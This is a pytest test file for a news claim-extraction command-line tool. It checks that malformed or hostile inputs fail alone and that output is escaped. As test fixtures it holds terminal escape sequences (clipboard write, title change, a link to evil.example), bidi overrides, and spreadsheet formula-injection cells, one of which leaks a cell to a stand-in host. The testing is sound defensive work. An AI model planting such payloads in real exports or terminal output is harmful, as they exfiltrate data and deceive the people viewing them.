"""Hostile input stays inside its own record, and untrusted text is neutralised on the way out.

Every hostile input is built here: lone surrogates in JSON Lines strings, a `meta` that is not
an object, 100,000 `[`, a file name that is not UTF-8, formula cells, terminal escapes, bidi
overrides, U+2028, UTF-8 with stray cp1252 bytes, and text without sentence breaks.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from claimx.cli.main import app
from claimx.engines import serial
from claimx.engines.serial import Outcome
from claimx.inputs.article import as_input
from claimx.inputs.decoding import decode
from claimx.nlp.lines import MAX_SENTENCE_CHARS
from claimx.outputs.neutral import for_spreadsheet, for_terminal, json_line_safe
from claimx.schema import DocumentRecord, iter_spans

runner = CliRunner()

GOOD = "Officials said the new plan would cost 5 million dollars, according to the ministry.\n"
# A file name that is not valid UTF-8: Python holds the byte as a surrogate.
BAD_NAME = os.fsdecode(b"caf\xe9-name.txt")


def run(*args: str):
    return runner.invoke(app, list(args), catch_exceptions=False)


def records_of(stdout: str) -> list[DocumentRecord]:
    return [DocumentRecord.model_validate_json(line) for line in stdout.splitlines() if line]


def poison_folder(root: Path) -> tuple[int, int]:
    """Good files and every poison kind; returns (records expected, error records expected)."""
    (root / "a-good.txt").write_text(GOOD, encoding="utf-8")
    (root / "z-good.txt").write_text(GOOD.replace("5", "7"), encoding="utf-8")
    (root / BAD_NAME).write_text(GOOD.replace("5", "9"), encoding="utf-8")  # readable: a record
    lines = [
        json.dumps({"text": GOOD, "title": "\ud800 lone surrogate"}),  # escaped: a record
        json.dumps({"text": GOOD, "meta": {"k\udcff": ["\udfff"]}}),  # escaped: a record
        json.dumps({"text": GOOD, "meta": "notadict"}),  # invalid
        "[" * 100_000,  # RecursionError in json.loads: invalid
        json.dumps({"text": GOOD, "title": "after the poison"}),
    ]
    (root / "m-poison.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return 3 + len(lines), 2


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    root = tmp_path_factory.mktemp("poison")
    return root, *poison_folder(root)


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_poisoned_folder_gives_every_good_record_and_one_error_per_bad_input(poisoned, jobs):
    root, n, bad = poisoned
    result = run("extract", str(root), "--format", "jsonl", "--jobs", jobs)
    assert result.exit_code == 1, result.stderr
    records = records_of(result.stdout)
    assert len(records) == n
    errors = [r for r in records if r.error is not None]
    assert len(errors) == bad and all(r.error.type == "invalid" for r in errors)
    assert "not an object" in errors[0].error.message
    paths = [r.document.path for r in records]
    assert str(root / "caf\\xe9-name.txt") in paths  # the byte, backslash-escaped
    titles = [r.document.title for r in records]
    assert "\\ud800 lone surrogate" in titles and "after the poison" in titles
    assert {"k\\udcff": ["\\udfff"]} in [r.document.meta for r in records]
    assert result.stderr.count("Error:") == bad


def test_a_poisoned_folder_as_csv_has_a_row_for_every_input(poisoned, tmp_path):
    root, n, bad = poisoned
    out = tmp_path / "out.csv"
    result = run("extract", str(root), "--format", "csv", "-o", str(out))
    assert result.exit_code == 1, result.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    by_doc = {(r["document_id"], r["document_path"]) for r in rows}
    assert len(by_doc) >= n - 1  # two good JSONL lines share a text, so one id, two paths
    assert sum(1 for r in rows if r["error_type"] == "invalid") == bad


def test_meta_must_be_an_object_and_strings_are_made_safe():
    art = as_input({"text": "x", "meta": "notadict"})
    assert art.text is None and art.error is not None and art.error.type == "invalid"
    art = as_input({"text": "a\ud800b", "title": "\udcff"})
    assert art.text == "a\\ud800b" and art.title == "\\udcff"


def test_a_record_that_cannot_be_serialised_or_is_too_large_fails_alone(extractor):
    record = next(extractor.pipe([GOOD]))
    # A surrogate planted after validation (what a buggy rule or caller could do) cannot be
    # written as UTF-8: the record becomes an error record instead of failing the run.
    record.document.meta["bad"] = "\ud800"
    failed = Outcome.of(record)
    assert failed.error is not None and failed.error.type == "processing"
    json.loads(failed.as_line())
    big = Outcome.of(next(extractor.pipe([GOOD])), max_chars=100)
    assert big.error is not None and big.error.type == "too_large" and big.claims == 0
    assert "too large" in big.error.message


def test_a_too_large_record_from_the_command_is_an_error_record(tmp_path, monkeypatch):
    monkeypatch.setattr(serial, "MAX_RECORD_CHARS", 300)
    path = tmp_path / "a.txt"
    path.write_text(GOOD * 3, encoding="utf-8")
    result = run("extract", str(path), "--format", "jsonl")
    assert result.exit_code == 1
    (rec,) = records_of(result.stdout)
    assert rec.error is not None and rec.error.type == "too_large" and rec.claims == []
    assert rec.document.path == str(path)


# -- neutralisation ---------------------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;aGk=\x07\x1b]8;;http://evil.example\x1b\\link"


def test_for_terminal_shows_controls_and_bidi_visibly():
    shown = for_terminal(f"ok {ESCAPES} \u202eevil \x9b1m \u2066x\u2069")
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "\x9b" not in shown and "\u2066" not in shown
    assert "\\x1b]0;pwned\\x07" in shown and "\\u202eevil" in shown
    assert for_terminal("a\nb\tc", keep="\n") == "a\nb\\x09c"
    assert for_terminal("Café “quoted” 中文 👩‍💻") == "Café “quoted” 中文 👩‍💻"


def test_show_and_table_piped_carry_no_escape_from_the_article(tmp_path):
    path = tmp_path / "esc\x1b[31m.txt"
    text = f"Chip news {ESCAPES}\n\nAnalysts said the chip \u202eis faster than the A100.\n"
    path.write_text(text, encoding="utf-8")
    shown = run("show", str(path))
    assert shown.exit_code == 0, shown.stderr
    assert "Analysts" in shown.stdout and "\\x1b" in shown.stdout
    table = run("extract", str(path), "--format", "table")
    assert table.exit_code == 0 and "Analysts" in table.stdout
    for out in (shown.stdout, table.stdout, shown.stderr, table.stderr):
        assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out


def test_error_lines_show_escapes_from_file_names(tmp_path):
    missing = tmp_path / "gone\x1b]0;title\x07\u202e.txt"
    result = run("extract", str(missing), "--format", "jsonl")
    assert result.exit_code == 1
    (line,) = [x for x in result.stderr.splitlines() if x.startswith("Error:")]
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert "\\x1b]0;title\\x07\\u202e.txt" in line


FORMULAS = {
    "title": "=2+3",
    "publication": '=HYPERLINK("http://evil.example/?leak="&K2,"Click for source")',
    "url": "@SUM(1+1)",
    "byline": "-2+3",
}


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_cells_from_article_data_never_start_a_formula(tmp_path, fmt):
    article = {
        **FORMULAS,
        "text": "+Analysts said the chip is faster than the A100.\n"
        "=Officials said the rules would stay, according to the ministry.\n",
    }
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps(article) + "\n", encoding="utf-8")
    out = tmp_path / f"out.{fmt}"
    result = run("extract", str(src), "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter="," if fmt == "csv" else "\t"))
    assert len(rows) > 2
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=2+3" in cells and "'@SUM(1+1)" in cells
    raw = tmp_path / f"raw.{fmt}"
    result = run("extract", str(src), "--format", fmt, "--no-escape-formulas", "-o", str(raw))
    assert "=2+3" in raw.read_text(encoding="utf-8").replace("'=2+3", "")


def test_spreadsheet_and_json_line_escapes():
    assert [for_spreadsheet(c) for c in ("=1", "+1", "-1", "@x", "\tx", "\rx", "ok", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]
    line = json_line_safe(json.dumps({"t": "a\u2028b\u2029c"}, ensure_ascii=False))
    assert len(line.splitlines()) == 1 and json.loads(line) == {"t": "a\u2028b\u2029c"}


@pytest.mark.parametrize("args", [[], ["--flat"], ["--jobs", "2"]])
def test_json_lines_escape_line_separators(tmp_path, args):
    for n in range(2):
        (tmp_path / f"{n}.txt").write_text(
            f"Officials said the plan {n}\u2028would work.\u2029\n", encoding="utf-8"
        )
    result = run("extract", str(tmp_path), "--format", "jsonl", *args)
    assert result.exit_code == 0, result.stderr
    assert "\u2028" not in result.stdout and "\u2029" not in result.stdout
    lines = result.stdout.splitlines()
    assert all(json.loads(line) for line in lines) and len(lines) >= 2


# -- decoding ---------------------------------------------------------------------------------


def test_utf8_with_stray_cp1252_bytes_decodes_as_utf8_with_those_bytes_as_cp1252(tmp_path):
    data = "Caf\u00e9 owners said prices rose 5% \u2014 again.\n".encode() + (
        b"The caf\xe9 owner said \x93prices\x94 rose 7% last year.\n"
    )
    decoded = decode(data)
    assert decoded.encoding == "utf-8+cp1252"
    assert "Caf\u00e9" in decoded.text and "caf\u00e9" in decoded.text
    assert "\u201cprices\u201d" in decoded.text and "\u0e09" not in decoded.text
    path = tmp_path / "mixed.txt"
    path.write_bytes(data)
    (rec,) = records_of(run("extract", str(path), "--format", "jsonl").stdout)
    assert rec.document.encoding == "utf-8+cp1252"


def test_mostly_ascii_with_a_few_cp1252_letters_is_cp1252_not_a_distant_code_page():
    text = "Le caf\u00e9 est ouvert, said the owner of the shop on the main street today.\n" * 3
    decoded = decode(text.encode("cp1252"))
    assert decoded.encoding == "cp1252" and decoded.text == text


# -- bounded records --------------------------------------------------------------------------


def test_text_without_sentence_breaks_is_cut_into_capped_sentences(extractor):
    words = "officials said the plan would work and critics disagreed with them and "
    text = words * (4 * MAX_SENTENCE_CHARS // len(words))
    (record,) = list(extractor.pipe([text]))
    assert record.claims
    assert all(len(c.sentence.text) <= MAX_SENTENCE_CHARS for c in record.claims)
    assert any(c.sentence_cut for c in record.claims)
    dumped = record.model_dump(mode="json")
    for _, span in iter_spans(dumped["claims"]):
        assert text[span["start"] : span["end"]] == span["text"]


def test_news_sentences_are_never_cut(extractor):
    (record,) = list(extractor.pipe([GOOD * 40]))
    assert record.claims and not any(c.sentence_cut for c in record.claims)


def test_writers_never_see_an_unwritable_record(extractor):
    from claimx.outputs.writers import write_records

    record = next(extractor.pipe([{"text": GOOD, "title": "\ud800"}]))
    for fmt in ("json", "jsonl", "csv", "tsv", "table"):
        out = io.StringIO()
        list(write_records([record], fmt, out))
        out.getvalue().encode("utf-8")


def test_a_poisoned_folder_still_gets_its_report(poisoned, tmp_path):
    root, n, bad = poisoned
    out = tmp_path / "report.html"
    result = run("report", str(root), "-o", str(out))
    assert result.exit_code == 1, result.stderr
    assert out.exists() and "after the poison" in out.read_text(encoding="utf-8")
    assert result.stderr.count("Error:") == bad


@pytest.mark.slow
def test_a_poisoned_folder_on_dask_gives_every_record(poisoned, tmp_path):
    pytest.importorskip("distributed")
    root, n, bad = poisoned
    out = tmp_path / "shards"
    result = run("extract", str(root), "--engine", "dask", "--workers", "1", "-o", str(out))
    assert result.exit_code == 1, result.stderr
    lines = [
        line
        for shard in sorted(out.glob("part-*.jsonl"))
        for line in shard.read_text(encoding="utf-8").splitlines()
    ]
    records = [DocumentRecord.model_validate_json(line) for line in lines]
    assert len(records) == n
    assert sum(1 for r in records if r.error is not None) == bad
    assert not list(out.glob(".*"))  # no temporary shard, no lock left


def test_long_runs_of_one_word_lines_are_skipped_and_the_claims_around_them_kept(extractor):
    from claimx.engines.extractor import TRIVIAL_LINES

    before = "Officials said the plan would cost 5 million dollars.\n"
    after = "Analysts said the A100 is slower than the H100.\n"
    text = before + "x\n" * (TRIVIAL_LINES * 3) + after
    (record,) = list(extractor.pipe([text]))
    got = [(c.content.text, c.content.start) for c in record.claims]
    assert ("the plan would cost 5 million dollars", 15) in got
    assert any(start > len(before) for _, start in got)
    for claim in record.claims:
        assert text[claim.content.start : claim.content.end] == claim.content.text
    short = "Officials said the plan would cost 5 million dollars.\n" + "x\n" * 5 + after
    assert len(list(extractor.pipe([short]))[0].claims) == len(record.claims)


def test_a_fifo_named_in_a_list_is_an_error_record_not_a_hang(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    good = tmp_path / "good.txt"
    good.write_text(GOOD, encoding="utf-8")
    listing = tmp_path / "list.txt"
    listing.write_text(f"{fifo}\n{good}\n", encoding="utf-8")
    result = run("extract", "--from-list", str(listing), "--format", "jsonl")
    assert result.exit_code == 1
    first, second = records_of(result.stdout)
    assert first.error is not None and first.error.type == "unreadable"
    assert second.error is None and second.claims


_PAGE_BODY = (
    "<p>The harbour board approved a second ferry terminal on Monday, its chairwoman said.</p>" * 3
)


def test_template_content_is_not_article_text():
    from claimx.inputs.webpages import html_to_article

    markup = (
        f"<html><body><article>{_PAGE_BODY}<template><p>Hidden template text said the "
        "terminal would close.</p></template></article></body></html>"
    )
    text = html_to_article(markup).text
    assert "harbour board" in text
    assert "Hidden template" not in text


def test_a_huge_attribute_does_not_hide_the_page():
    from claimx.inputs.webpages import html_to_article

    markup = (
        f'<html><head><title>T</title></head><body><article><div data-blob="{"a" * 12_000_000}">'
        f"{_PAGE_BODY}</div></article></body></html>"
    )
    assert "harbour board" in html_to_article(markup).text


def test_a_json_lines_path_keeps_where_it_was_read(tmp_path):
    src = tmp_path / "articles.jsonl"
    lines = [{"text": GOOD, "path": "desk/story-1.txt"}, {"text": GOOD}]
    src.write_text("\n".join(json.dumps(x) for x in lines) + "\n", encoding="utf-8")
    first, second = records_of(run("extract", str(src), "--format", "jsonl").stdout)
    assert first.document.path == "desk/story-1.txt"
    assert first.document.meta["read_from"] == f"{src}:1"
    assert second.document.path == f"{src}:2"
    assert "read_from" not in second.document.meta
